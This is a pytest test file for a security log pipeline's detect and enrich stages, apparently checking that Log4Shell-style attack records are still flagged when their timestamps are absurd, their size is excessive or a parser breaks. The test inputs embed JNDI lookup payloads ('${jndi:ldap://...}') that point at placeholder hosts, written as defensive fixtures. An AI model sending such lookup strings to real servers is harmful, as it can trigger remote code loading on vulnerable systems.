"""The detect and enrich stages on records built to break them: nothing escapes."""

from __future__ import annotations

import pytest

from pipeline import events
from pipeline.config import Settings
from pipeline.detect_stage import (
    LIMIT_FINDINGS,
    MAX_DETECTION_BYTES,
    DetectStage,
    RawRecord,
    plausible_event_time,
)
from pipeline.enrich_stage import EnrichStage
from pipeline.errors import PoisonRecord
from pipeline.events import Detection
from pipeline.formats.base import MAX_RECORD_BYTES
from pipeline.store import MemoryStore

PREFIX = b'198.51.100.7 - - [10/Dec/2021:14:25:38 +0000] "GET /'
SUFFIX = b' HTTP/1.1" 200 5 "-" "x"'


def one(raw: bytes) -> tuple[list[str], list[Detection]]:
    out = DetectStage(Settings()).process([RawRecord(raw, "f", 1, sep=":")])
    counts = out.by_stream["f"]
    assert counts["lines"] == counts["parsed"] + counts["dead_letters"] == 1
    return [exc.reason for _record, exc in out.dead], out.detections


@pytest.mark.parametrize(
    "when",
    ["31/Dec/9999:23:59:59 -1400", "01/Jan/0001:00:00:00 +1400"],
)
def test_access_log_time_outside_the_calendar_falls_back_and_keeps_the_attack(
    when: str,
) -> None:
    request = '"GET /${jndi:ldap://a.example/x} HTTP/1.1" 200 5 "-" "x"'
    line = f"198.51.100.7 - - [{when}] {request}"
    dead, detections = one(line.encode())
    assert dead == []
    assert [d.timestamp_source for d in detections] == ["ingest"]


@pytest.mark.parametrize(
    "stamp", ["1e300", "-1e20", '"9999-12-31T23:59:59Z"', "253402300799999"]
)
def test_event_time_no_day_holds_falls_back_and_keeps_the_attack(stamp: str) -> None:
    raw = (
        b'{"@timestamp":' + stamp.encode() + b',"source":{"ip":"198.51.100.7"},'
        b'"url":{"original":"/${jndi:ldap://a.example/x}"}}'
    )
    dead, detections = one(raw)
    assert dead == []
    assert detections[0].malicious
    assert detections[0].timestamp_source == "ingest"
    assert plausible_event_time(detections[0].timestamp)


@pytest.mark.parametrize("body", [b"a", b"${"])
def test_record_over_the_parse_limit_is_dead_lettered_with_or_without_a_lookup(
    body: bytes,
) -> None:
    raw = PREFIX + body * (MAX_RECORD_BYTES // len(body) + 1) + SUFFIX
    assert one(raw) == (["too_large"], [])


def test_detection_of_a_record_with_hundreds_of_lookups_fits_a_kafka_record() -> None:
    headers = ",".join(
        f'"x-h{i}":"${{jndi:ldap://h{i}.example/{"p" * 1500}}}"' for i in range(400)
    )
    raw = (
        b'{"@timestamp":"2021-12-10T14:25:38Z","source":{"ip":"198.51.100.7"},'
        b'"http":{"request":{"headers":{' + headers.encode() + b"}}}}"
    )
    dead, detections = one(raw)
    assert dead == []
    detection = detections[0]
    assert len(events.encode(detection)) <= MAX_DETECTION_BYTES
    assert detection.malicious and detection.findings
    assert detection.limit_hit == LIMIT_FINDINGS


def test_a_parser_bug_dead_letters_the_record_instead_of_stopping_the_stream(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    stage = DetectStage(Settings())
    parser, _ = stage.router.choose(PREFIX + b"${x}" + SUFFIX)

    def broken(raw: bytes) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(parser, "parse", broken)
    out = stage.process([RawRecord(PREFIX + b"${x}" + SUFFIX, "f", 7, sep=":")])
    assert [(exc.reason, exc.detail) for _r, exc in out.dead] == [
        ("internal_error", "ZeroDivisionError")
    ]
    assert out.by_stream["f"]["dead_letters"] == 1


def test_enrich_refuses_a_detection_whose_time_no_day_holds() -> None:
    stage = EnrichStage.from_settings(Settings())
    detection = Detection(event_id="t/0/1", timestamp=1e300, source_ip="198.51.100.7")
    with pytest.raises(PoisonRecord) as caught:
        stage.handle(detection, MemoryStore())
    assert caught.value.reason == "bad_timestamp"
